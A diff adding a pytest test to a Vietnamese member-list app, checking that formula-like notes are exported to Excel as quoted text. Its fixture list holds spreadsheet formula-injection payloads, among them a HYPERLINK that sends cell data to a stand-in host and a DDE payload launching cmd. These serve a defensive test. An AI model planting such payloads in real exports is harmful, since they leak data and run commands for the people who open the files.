@@ -966,6 +966,56 @@ def test_export_has_labels_real_dates_and_no_personal_columns_unless_asked(sessi
         export_list(session.store, "members", out, branch="Thôn Nam")
 
 
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?d="&E2,"Bấm")',
+    "+1+1",
+    "-1+cmd|' /C calc'!A0",
+    "@SUM(1,1)",
+    "\t=1+1",
+    "\r=1+1",
+    "＝1+1",
+]
+
+
+def test_text_that_looks_like_a_formula_is_exported_as_text(session, tmp_path):
+    """Names and notes from an import, a load or a synced package: never live formulas."""
+    changes = [
+        Change("members", {"branch_id": DONG, "full_name": "Phạm Thị Lan", "note": text})
+        for text in FORMULAS
+    ]
+    changes.append(Change("members", {"branch_id": DONG, "full_name": "Phạm Thị Lụa", "note": "-"}))
+    session.store.write(changes)
+    out = tmp_path / "list.xlsx"
+    export_list(session.store, "members", out)
+    with zipfile.ZipFile(out) as z:
+        xml = z.read("xl/worksheets/sheet1.xml").decode()
+        styles = z.read("xl/styles.xml").decode()
+    assert "<f>" not in xml and "<f " not in xml
+    assert 'quotePrefix="1"' in styles
+    reread = load_workbook(out)
+    ws = reread.active
+    headers = [c.value for c in ws[2]]
+    note = headers.index("Ghi chú") + 1
+    written = {}
+    for row in ws.iter_rows(min_row=3):
+        cell = row[note - 1]
+        if cell.value is not None:
+            written[cell.value] = cell
+        assert row[0].data_type == "n" and isinstance(row[0].value, int)  # STT: a number
+    stored = {r[0] for r in session.store.db.execute("SELECT note FROM members WHERE note > ''")}
+    assert stored == {f.strip() for f in FORMULAS} | {"-"}  # values are stored trimmed
+    for text in stored:
+        assert written[text].data_type == "s", text
+        assert written[text].quotePrefix, text
+    phones = [r[headers.index("Số điện thoại")].value for r in ws.iter_rows(min_row=3)]
+    assert "0912345678" in phones  # text, its leading zero kept
+    # What was written reads back as the same text.
+    plan = plan_import(session.store, out, "members")
+    counts = plan.counts()
+    assert counts[ADD] == counts[UPDATE] == counts[REJECTED] == 0
+    assert counts[UNCHANGED] + counts[DUPLICATE] == 3 + len(FORMULAS) + 1
+
+
 def test_indicators_export(session, tmp_path):
     out = tmp_path / "chi-tieu.xlsx"
     summary = export_indicators(session.store, out, as_of=date(2025, 10, 1))
